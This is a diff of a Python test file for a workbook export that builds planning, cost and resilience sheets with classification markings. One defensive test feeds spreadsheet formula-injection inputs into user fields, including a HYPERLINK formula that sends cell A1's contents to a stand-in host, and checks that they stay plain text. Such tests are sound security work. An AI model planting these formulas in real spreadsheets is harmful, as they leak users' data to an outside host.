@@ -1,63 +1,134 @@
-"""The workbook: one sheet per table, marking in row 1, bold header in row 2, frozen panes."""
+"""The workbook: a Summary sheet like the report's first page, tables with units and formats, the
+plan's monthly tables wide, names beside codes, the marking on every sheet and printed page."""
 
 from __future__ import annotations
 
+import datetime as dt
 import io
+import zipfile
 from pathlib import Path
 from typing import Any
 
 from openpyxl import load_workbook
 
 from bastion.report import build_xlsx, write_report
+from bastion.report.answer import answers
 
-SHEETS = (
-    "inputs", "targets", "lines", "cost_breakdown",
-    "plan_production", "plan_purchases", "plan_stores", "plan_deliveries", "plan_stockpiles", "plan_costs",
-    "schedule_tasks", "sim_targets", "sim_first_output", "sim_fan_charts", "resilience_nodes",
-    "concentration", "unit_cost", "unit_cost_by_month", "cash_by_year",
-)
+FIRST = ("Summary", "targets", "lines", "cost_breakdown", "production", "purchases", "deliveries",
+         "stockpiles", "stores", "costs", "plan_explanations")
+LONG = ("schedule_tasks", "sim_targets", "sim_first_output", "sim_fan_charts", "resilience_nodes",
+        "concentration", "unit_cost", "unit_cost_by_month", "cash_by_year",
+        "plan_production", "plan_purchases", "plan_stores", "plan_deliveries", "plan_stockpiles", "plan_costs",
+        "inputs")
 
 
-def test_sheets_headers_marking(run: dict[str, Any], tables: dict[str, Any]) -> None:
-    wb = load_workbook(io.BytesIO(build_xlsx(run, tables)))
-    assert set(SHEETS) <= set(wb.sheetnames)
-    assert wb.sheetnames[0] == "inputs"
+def _book(run: dict[str, Any], tables: dict[str, Any]) -> Any:
+    return load_workbook(io.BytesIO(build_xlsx(run, tables)))
+
+
+def _header(ws: Any) -> list[Any]:
+    return [c.value for c in ws[2]]
+
+
+def test_sheets_in_order_marking_and_frozen_panes(run: dict[str, Any], tables: dict[str, Any]) -> None:
+    wb = _book(run, tables)
+    assert tuple(wb.sheetnames[: len(FIRST)]) == FIRST
+    assert set(LONG) <= set(wb.sheetnames) and wb.sheetnames[-1] == "inputs"
     for ws in wb.worksheets:
         assert ws["A1"].value == run["classification"], ws.title
-        assert ws["A2"].font.bold, ws.title
-        assert ws.freeze_panes == "A3", ws.title
-    for name in ("production", "purchases", "stores", "deliveries", "stockpiles", "costs"):
-        ws = wb[f"plan_{name}"]
-        assert [c.value for c in ws[2]] == list(tables[name][0])
-        assert ws.max_row == len(tables[name]) + 2
-    ws = wb["plan_production"]
-    first = tables["production"][0]
-    assert [c.value for c in ws[3]] == [first[k] for k in first]
+        assert ws.freeze_panes is not None and ws.freeze_panes.endswith("3"), ws.title
+    for name in ("plan_production", "plan_purchases", "plan_stockpiles"):
+        ws = wb[name]
+        assert ws.max_row == len(tables[name[5:]]) + 2
 
 
-def test_derived_sheets_hold_the_runs_figures(run: dict[str, Any], tables: dict[str, Any]) -> None:
-    wb = load_workbook(io.BytesIO(build_xlsx(run, tables)))
-    nodes = wb["resilience_nodes"]
-    header = [c.value for c in nodes[2]]
-    assert {"node", "kind", "tts_months", "ttr_months", "mitigation"} <= set(header)
-    assert nodes.max_row == len(run["resilience"]["nodes"]) + 2
-    mit = header.index("mitigation")
-    assert str(nodes.cell(row=3, column=mit + 1).value).startswith("fill-charge@plant-lv")
-    cash = wb["cash_by_year"]
-    assert cash.max_row == len(run["economics"]["cash_by_year"]) + 2
-    fans = wb["sim_fan_charts"]
-    assert fans.max_row == sum(len(f["months"]) for f in run["simulate"]["fan_charts"]) + 2
+def test_summary_matches_the_reports_first_page(short_run: dict[str, Any], short_tables: dict[str, Any]) -> None:
+    ws = _book(short_run, short_tables)["Summary"]
+    text = [c for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
+    for a in answers(short_run):
+        assert a.question in text and a.lead in text
+        assert all(p in text for p in a.points)
+    assert "Will we meet the targets?" in text and "No: 1 of 6 targets is short in the plan." in text
+    assert any("+20 units a month of capacity on line-1" in t for t in text)
+    assert "Headline figure" in text
+
+
+def test_headers_carry_units_and_cells_their_formats(run: dict[str, Any], tables: dict[str, Any]) -> None:
+    wb = _book(run, tables)
     targets = wb["targets"]
-    head = [c.value for c in targets[2]]
-    assert "probability" in head and "met" in head
-    inputs = {r[0]: r[1] for r in wb["inputs"].iter_rows(min_row=3, values_only=True)}
-    assert inputs["scenario_hash"] == run["scenario_hash"] and inputs["seed"] == run["seed"]
+    head = _header(targets)
+    assert head[:4] == ["customer", "customer name", "item", "item name"]
+    assert "probability (%)" in head and "planned_units (units)" in head and "units" in head
+    assert head[head.index("met in plan") + 1] == "probability (%)"  # P(met) beside met in plan
+    row = {h: targets.cell(row=3, column=i + 1) for i, h in enumerate(head)}
+    assert row["customer name"].value == "Latvian armed forces (illustrative)"
+    assert row["by"].value == dt.datetime(2030, 12, 1) and row["by"].number_format == "yyyy-mm"
+    assert row["probability (%)"].number_format == "0.0%"
+    assert row["units"].number_format == "#,##0"
+    cost = wb["cost_breakdown"]
+    assert "plan (EUR)" in _header(cost) and cost.cell(row=3, column=2).number_format == "#,##0"
+    nodes = wb["resilience_nodes"]
+    assert {"tts_months (months)", "ttr_months (months)", "node name"} <= set(_header(nodes))
+
+
+def test_monthly_tables_are_wide_with_dates_across(run: dict[str, Any], tables: dict[str, Any]) -> None:
+    wb = _book(run, tables)
+    prod = wb["production"]
+    head = _header(prod)
+    assert head[:4] == ["line", "item", "item name", "total: units made (good units a month)"]
+    months = head[4:]
+    assert all(isinstance(m, dt.datetime) and m.day == 1 for m in months)
+    assert months == sorted(months) and prod.freeze_panes == "E3"
+    made: dict[tuple[str, str], float] = {}
+    for r in tables["production"]:
+        made[(r["line"], r["item"])] = made.get((r["line"], r["item"]), 0.0) + r["units"]
+    for row in prod.iter_rows(min_row=3, values_only=True):
+        assert abs(row[3] - made[(row[0], row[1])]) < 1e-3
+        assert abs(sum(row[4:]) - row[3]) < 1e-3
+        if row[1] == "body-assy":
+            assert row[2] == "Body assembly (intermediate: not output)"
+    costs = wb["costs"]
+    assert [r[0] for r in costs.iter_rows(min_row=3, values_only=True)] == [
+        "capex", "purchases", "production", "fixed", "holding", "total"]
+    assert len(_header(costs)) == 2 + len(tables["costs"])
+
+
+def test_every_sheet_prints_the_marking_top_and_bottom(run: dict[str, Any], tables: dict[str, Any]) -> None:
+    run["classification"] = "RESTRICTED & TEST"
+    wb = _book(run, tables)
+    for ws in wb.worksheets:
+        for hf in (ws.oddHeader, ws.oddFooter, ws.evenHeader, ws.evenFooter):
+            assert hf.center.text == "RESTRICTED && TEST", ws.title  # "&&" prints one "&"
+        assert ws["A1"].value == "RESTRICTED & TEST", ws.title
+
+
+def test_user_text_never_becomes_a_formula(run: dict[str, Any], tables: dict[str, Any]) -> None:
+    evil = '=HYPERLINK("http://x/?"&A1,"a")'
+    run["classification"] = "=1+1"
+    run["scenario_file"] = "+cmd.yaml"
+    run["plan"]["catalogue"]["customers"]["lv-naf"]["name"] = evil
+    run["plan"]["targets"][0]["customer"] = "-lv"
+    tables["production"][0]["line"] = "@line"
+    tables["production"][1]["line"] = "\tline"
+    data = build_xlsx(run, tables)
+    wb = load_workbook(io.BytesIO(data))
+    found = dict.fromkeys(("=1+1", evil, "+cmd.yaml", "-lv", "@line", "\tline"), 0)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                if c.value in found:
+                    found[c.value] += 1
+                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
+    assert all(found.values()), found
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
 
 
 def test_extra_tables_get_their_own_sheet(run: dict[str, Any], tables: dict[str, Any]) -> None:
     tables["my/extra:table with a very long name indeed"] = [{"a": 1, "b": [1, 2], "c": {"x": 1}}]
     tables["empty"] = []
-    wb = load_workbook(io.BytesIO(build_xlsx(run, tables)))
+    wb = _book(run, tables)
     extra = next(n for n in wb.sheetnames if n.startswith("myextra"))
     assert len(extra) <= 31
     assert [c.value for c in wb[extra][3]] == [1, "1, 2", "x=1"]
